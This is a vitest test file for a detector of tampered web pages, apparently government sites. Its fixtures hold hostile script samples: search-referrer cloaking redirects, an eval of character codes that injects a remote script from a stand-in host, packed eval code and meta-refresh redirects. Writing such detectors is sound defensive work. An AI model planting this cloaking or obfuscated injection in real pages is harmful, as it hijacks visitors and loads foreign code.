import { expect, test } from "vitest";
import { scriptSignals } from "../../../src/observe/tampering/script-signals.ts";
import { pageOf, shipped } from "../with-lists.ts";

const told = (script: string) =>
  scriptSignals(pageOf(`<script>${script}</script>`), shipped).map(
    ({ kind, confidence }) => `${kind} ${confidence}`,
  );
const codes = Array.from("document.write('<script src=http://a-example.com/x.js>')", (char) =>
  char.charCodeAt(0),
).join(",");

test.each([
  [
    "searchers are sent away",
    "if(/baidu|sogou/.test(document.referrer)){location.href='http://a-example.com/'}",
    ["cloaking likely"],
  ],
  [
    "phones are sent to the mobile site",
    "if(/iPhone|Android/.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}",
    [],
  ],
  ["the referrer is counted", "img.src='//c.example.gov.cn/?r='+document.referrer", []],
  ["everybody is sent to a stranger", "window.location='http://a-example.com/'", ["redirect suspect"]],
  ["everybody is sent to the new site", "location.replace('http://www.new.gov.cn/')", []],
  ["a click leads to a stranger", "function go(){location.href='http://a-example.com/'}", []],
  ["an address in character codes", `eval(String.fromCharCode(${codes}))`, ["foreign-script likely"]],
  ["packed code", "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|')))", ["other suspect"]],
  ["a plain script", "var a = 1;", []],
])("%s", (_, script, expected) => {
  expect(told(script)).toEqual(expected);
});

test.each([
  ["0;url=http://a-example.com/", 1],
  ["0;url=http://www.b.gov.cn/", 0],
  ["0;url=index.html", 0],
])("refresh %s", (content, count) => {
  expect(scriptSignals(pageOf(`<meta http-equiv="Refresh" content="${content}">`), shipped)).toHaveLength(
    count,
  );
});
